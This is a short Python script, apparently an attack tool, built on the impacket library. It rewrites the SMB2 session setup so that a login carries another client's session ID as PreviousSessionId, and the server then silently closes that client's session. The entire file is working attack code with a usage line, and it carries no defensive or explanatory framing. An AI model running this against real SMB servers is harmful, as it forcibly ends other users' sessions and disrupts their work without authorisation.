"""Takes over another client's session: usage: take_session.py ADDRESS USER PASSWORD SESSION_ID

The login sends PreviousSessionId (MS-SMB2 2.2.5), and the server closes that session without a notice. Its owner finds the session deleted.
"""
import sys

from impacket import smb3structs
from impacket.smbconnection import SMBConnection

address, user, password, session = sys.argv[1:]
smb3structs.SMB2SessionSetup.structure = tuple(
    (name, f"<Q={int(session, 16)}" if name == "PreviousSessionId" else form, *more)
    for name, form, *more in smb3structs.SMB2SessionSetup.structure
)
connection = SMBConnection(address, address, preferredDialect=smb3structs.SMB2_DIALECT_30)
connection.login(user, password)
connection.logoff()
